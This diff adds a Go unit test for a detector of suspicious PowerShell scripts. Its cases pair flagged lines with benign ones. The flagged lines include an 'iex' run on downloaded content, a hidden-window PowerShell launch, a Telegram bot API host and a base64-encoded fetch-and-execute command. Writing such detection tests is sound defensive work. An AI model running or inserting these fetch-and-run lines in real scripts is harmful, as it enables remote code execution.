@@ -306,3 +306,26 @@ func hasCC(r *Result) bool {
 }
 
 func b2i(v bool) int { return B2I(v) }
+
+func TestScriptOfInterest(t *testing.T) {
+	d := shipped(t, WebServicesFile)
+	tests := []struct {
+		name, script string
+		want         bool
+		reason       string
+	}{
+		{"iex of a download", "$c = (New-Object Net.WebClient).DownloadString($u); iex $c", true, "runs what it fetches, the URL elsewhere"},
+		{"service named", "$u = 'api.telegram.org/bot1/getUpdates'", true, "a catalogued host without a scheme"},
+		{"a URL", "$u = 'https://example.org/x'", true, "any URL may be a service reached by address"},
+		{"hidden", "Start-Process powershell -WindowStyle Hidden -ArgumentList $a", true, "a hidden window"},
+		{"encoded", "$e = 'SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA'", true, "a base64 PowerShell command"},
+		{"housekeeping", "Get-ChildItem $env:ProgramData -Filter *.log | Remove-Item -Confirm:$false", false, "-Confirm is no irm: nothing fetched, named or run"},
+		{"help only", "<#\n.LINK\nhttps://github.com/x/y\n#>\nGet-Date", false, "a URL in help text is no request"},
+		{"index", "$index = 0; $firm = 'Contoso'", false, "iex and irm inside words"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			require.Equal(t, tt.want, d.ScriptOfInterest([]byte(tt.script)), tt.reason)
+		})
+	}
+}
